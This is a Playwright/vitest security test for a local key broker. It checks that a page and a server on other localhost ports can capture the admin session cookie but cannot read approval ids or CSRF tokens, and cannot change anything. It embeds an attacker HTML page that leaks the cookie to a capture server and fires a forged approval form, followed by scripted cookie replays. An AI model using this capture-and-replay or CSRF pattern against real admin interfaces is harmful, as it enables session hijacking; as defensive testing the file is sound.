// A local process cannot use the admin page's session (docs/spec.md §3.10, decision 104). Cookies ignore
// ports: the person's browser sends `kb_admin_<port>` to any server on 127.0.0.1. In a real
// Chromium the person logs in and a request is held for approval; then a page served by the test
// on another port, opened in the same browser, tries <img>, <iframe>, fetch and a form post
// against the broker, and a server on a third port captures the cookie the browser sends it and
// replays it to the broker as a local process would. The replays read no approval id and no CSRF
// token, every change they try is refused, and the held request stays held until the person
// approves it on the page.
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { ProxyAgent, request } from "undici";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { adminRequest, csrfOf, launchChromium } from "../helpers/admin-http.js";
import { type BrokerProcess, cliAsync, startBroker, tempHome, writeConfig } from "../helpers/broker.js";
import { type FakeUpstream, startUpstream } from "../helpers/upstream.js";

const KEY = "sk-theft-real-key-6b1f0e9d8c7a5b4c3d2e1f00";
const AGENT_TOKEN = "agent-token-theft-2c4e6a8b0d1f";

let upstream: FakeUpstream;
let broker: BrokerProcess;
let home: string;
let config: string;
let browser: Browser;
let adminToken: string;
const servers: Server[] = [];

async function listen(
  handler: (req: IncomingMessage, body: string) => [number, string, string],
): Promise<number> {
  const server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on("data", (c: Buffer) => chunks.push(c));
    req.on("end", () => {
      const [status, type, body] = handler(req, Buffer.concat(chunks).toString("utf8"));
      res.writeHead(status, { "content-type": type, "access-control-allow-origin": "*" });
      res.end(body);
    });
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  servers.push(server);
  return (server.address() as AddressInfo).port;
}

async function pendingIds(): Promise<string[]> {
  const res = await request(`http://127.0.0.1:${broker.port}/__keybroker/admin/approvals`, {
    headers: { authorization: `Bearer ${adminToken}` },
  });
  const body = (await res.body.json()) as { approvals: { id: string }[] };
  return body.approvals.map((a) => a.id);
}

beforeAll(async () => {
  upstream = await startUpstream();
  upstream.routes.set("PUT /v1/files/f1", (_req, res) => {
    res.writeHead(200, { "content-type": "application/json" });
    res.end('{"ok":true}');
  });
  home = tempHome();
  config = writeConfig(
    tempHome(),
    `version: 1
listen: 127.0.0.1:0
upstream_ca: [${JSON.stringify(upstream.caPath)}]
resolve:
  "api.openai.com:443": "127.0.0.1:${upstream.port}"
providers:
  openai:
    credentials: [KEY]
    policy:
      - approve: { method: PUT, path: "/v1/files/*" }
clients:
  agent:
    token: AGENT_TOKEN
    providers: "*"
`,
  );
  broker = await startBroker({ home, config, env: { KEY, AGENT_TOKEN } });
  adminToken = readFileSync(join(home, "admin.token"), "utf8").trim();
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  for (const s of servers) s.close();
  await broker?.stop();
  await upstream?.close();
});

describe("admin session theft by a local process", () => {
  it("a page and a server on other ports of 127.0.0.1 get the cookie but can read and change nothing", {
    timeout: 90_000,
  }, async () => {
    const base = `http://127.0.0.1:${broker.port}`;
    const link = await cliAsync(["admin", "--home", home, "--config", config]);
    const url = /(http:\/\/127\.0\.0\.1:\d+\/admin\/login\?code=\S+)/.exec(link.stdout)![1]!;
    const context = await browser.newContext();
    const person = await context.newPage();
    person.setDefaultTimeout(10_000);
    await person.goto(url);
    await person.getByRole("button", { name: "Log in" }).click();
    await person.locator("#provider-openai").waitFor();

    // The agent's own PUT is held for a person.
    const env = await cliAsync(
      ["env", "--client", "agent", "--format", "json", "--home", home, "--config", config],
      {
        env: { AGENT_TOKEN },
      },
    );
    const placeholder = (JSON.parse(env.stdout) as Record<string, string>).OPENAI_API_KEY!;
    const agent = new ProxyAgent({
      uri: base,
      token: `Basic ${Buffer.from(`agent:${AGENT_TOKEN}`).toString("base64")}`,
      requestTls: { ca: readFileSync(broker.caPath, "utf8") },
    });
    const held = request("https://api.openai.com/v1/files/f1", {
      method: "PUT",
      dispatcher: agent,
      headers: { "content-type": "application/json", authorization: `Bearer ${placeholder}` },
      body: '{"purpose":"theft"}',
    });
    await person.goto(`${base}/admin/approvals`);
    await person.locator(".approval").waitFor();
    const [id] = await pendingIds();
    expect(id).toMatch(/^[0-9a-f]{8}$/);
    const csrf = (await person.locator('input[name="csrf"]').first().getAttribute("value"))!;
    expect(csrf.length).toBeGreaterThan(20);
    const sentBefore = upstream.received.length;

    // A server on a third port keeps every cookie the browser sends it.
    const captured: string[] = [];
    const capturePort = await listen((req) => {
      captured.push(req.headers.cookie ?? "");
      return [200, "image/gif", ""];
    });
    // The attacker's page, on another port: everything a page can aim at the broker.
    const reports: string[] = [];
    const attackerPage = `<!doctype html><html><body>
<img src="http://127.0.0.1:${capturePort}/admin/x.gif">
<img src="${base}/admin/approvals">
<iframe id="f" src="${base}/admin/approvals"></iframe>
<iframe name="sink"></iframe>
<form id="post" method="post" action="${base}/admin/do/approve" target="sink">
<input name="id" value="${id}"><input name="csrf" value="guess"></form>
<script>
const report = (what) => fetch("/report", { method: "POST", body: what });
(async () => {
  for (const path of ["/admin/approvals", "/admin/part/approvals", "/admin/"]) {
    try {
      const r = await fetch("${base}" + path, { credentials: "include" });
      report("read " + path + " " + (await r.text()));
    } catch (e) { report("fetch " + path + " refused: " + e); }
    fetch("${base}" + path, { credentials: "include", mode: "no-cors" }).catch(() => {});
  }
  fetch("${base}/admin/do/approve", { method: "POST", mode: "no-cors", credentials: "include",
    headers: { "content-type": "application/x-www-form-urlencoded" }, body: "id=${id}&csrf=guess" }).catch(() => {});
  document.getElementById("f").addEventListener("load", () => {
    try { report("iframe " + document.getElementById("f").contentDocument.body.innerHTML); }
    catch (e) { report("iframe refused: " + e); }
  });
  document.getElementById("post").submit();
  report("done");
})();
</script></body></html>`;
    const attackerPort = await listen((req, body) => {
      if (req.url === "/report") {
        reports.push(body);
        return [204, "text/plain", ""];
      }
      return [200, "text/html; charset=utf-8", attackerPage];
    });
    const evil = await context.newPage();
    await evil.goto(`http://127.0.0.1:${attackerPort}/`);
    await expect.poll(() => reports.includes("done") && captured.length > 0).toBe(true);
    await evil.waitForLoadState("load");

    // The browser did hand the cookie to the other port (what makes this attack possible).
    const cookieValue = (await context.cookies()).find((c) => c.name === `kb_admin_${broker.port}`)!.value;
    const stolen = captured.map((c) => /kb_admin_\d+=([^;]+)/.exec(c)?.[1]).find((v) => v !== undefined);
    expect(stolen).toBe(cookieValue);

    // The local process replays it to the broker: it reads no approval id and no CSRF token ...
    const session = { cookie: stolen! };
    const read: string[] = [...reports];
    for (const path of [
      "/admin/",
      "/admin/approvals",
      "/admin/audit",
      "/admin/actions",
      "/admin/usage",
      "/admin/part/approvals",
      "/admin/part/overview",
      "/admin/part/audit",
    ]) {
      read.push((await adminRequest(broker.port, path, session)).text);
      // A made-up page secret does no better.
      read.push((await adminRequest(broker.port, path, { ...session, secret: "x".repeat(43) })).text);
    }
    for (const text of read) {
      expect(text).not.toContain(id);
      expect(text).not.toContain(csrf);
    }
    // ... and whatever form token it finds or guesses, no change is made.
    const token = read.map(csrfOf).find((t) => t !== undefined) ?? "guess";
    for (const [path, form] of [
      ["/admin/do/approve", { id: id!, csrf: token }],
      ["/admin/do/approve", { id: id!, csrf: token, for: "1h" }],
      ["/admin/do/deny", { id: id!, csrf: token }],
      ["/admin/do/reset", { provider: "openai", csrf: token }],
      ["/admin/do/reload", { csrf: token }],
      ["/admin/do/device-login", { provider: "openai", csrf: token }],
      ["/admin/do/remove-login", { target: "openai/default", csrf: token }],
      ["/admin/logout", { csrf: token }],
    ] as const) {
      const answer = await adminRequest(broker.port, path, session, form);
      expect(answer.status, `${path}: ${answer.text}`).toBe(403);
    }
    // The request is still held, nothing went upstream, and no one but the person answered it.
    expect(await pendingIds()).toEqual([id]);
    expect(upstream.received.length).toBe(sentBefore);
    const security = readFileSync(join(home, "audit", "security.jsonl"), "utf8");
    expect(security).not.toMatch(/"decision":"(approved|denied)"/);

    // The person's own page still works: approving it lets the agent through.
    await person.bringToFront();
    await person.locator(".approval").getByRole("button", { name: "Approve" }).click();
    await expect(person.locator(".flash.ok").textContent()).resolves.toBe(`Approved ${id}.`);
    const answer = await held;
    expect(answer.statusCode).toBe(200);
    await answer.body.text();
    expect(upstream.received.at(-1)!.url).toBe("/v1/files/f1");
    await context.close();
    await agent.close();
  });
});
